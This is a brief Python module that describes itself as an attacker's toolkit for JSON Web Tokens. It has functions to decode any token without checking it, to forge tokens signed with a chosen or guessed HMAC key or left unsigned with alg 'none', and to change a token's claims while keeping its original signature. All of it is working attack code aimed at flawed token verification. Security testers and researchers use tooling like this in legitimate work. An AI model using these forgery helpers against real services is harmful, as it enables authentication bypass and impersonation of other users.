"""An attacker's JWT toolkit, in the standard library only: read any token, forge new ones.

A JWT is ``base64url(header) . base64url(payload) . base64url(signature)`` (RFC 7519): anyone
can read and re-encode the first two parts; only the signature needs the key.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json

_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def read(token: str) -> tuple[dict, dict]:
    """(header, payload) of any token, without checking anything: what every client can see."""
    header, payload, _ = token.split(".")
    return json.loads(b64url_decode(header)), json.loads(b64url_decode(payload))


def forge(header: dict, payload: dict, key: str | bytes | None = None) -> str:
    """A token with this header and payload, signed with ``key`` by header["alg"] (or unsigned for "none")."""
    signing_input = f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(payload).encode())}"
    alg = header.get("alg", "HS256")
    if alg.lower() == "none":
        return signing_input + "."
    if isinstance(key, str):
        key = key.encode()
    signature = hmac.new(key, signing_input.encode(), _HASHES[alg]).digest()
    return f"{signing_input}.{b64url(signature)}"


def with_payload(token: str, **changes) -> str:
    """The same token with its payload edited and the ORIGINAL signature kept."""
    header, payload = read(token)
    payload.update(changes)
    _, _, signature = token.split(".")
    return f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(payload).encode())}.{signature}"
